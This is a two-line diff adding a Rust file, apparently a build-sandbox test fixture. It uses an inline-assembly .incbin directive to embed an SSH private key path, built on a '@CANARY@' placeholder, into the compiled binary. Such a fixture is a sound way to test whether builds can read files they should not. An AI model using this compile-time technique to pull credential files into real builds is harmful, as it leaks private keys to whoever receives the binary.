@@ -1,0 +1,2 @@
+std::arch::global_asm!(".data\n.incbin \"@CANARY@/.ssh/id_rsa\"\n");
+fn main() {}
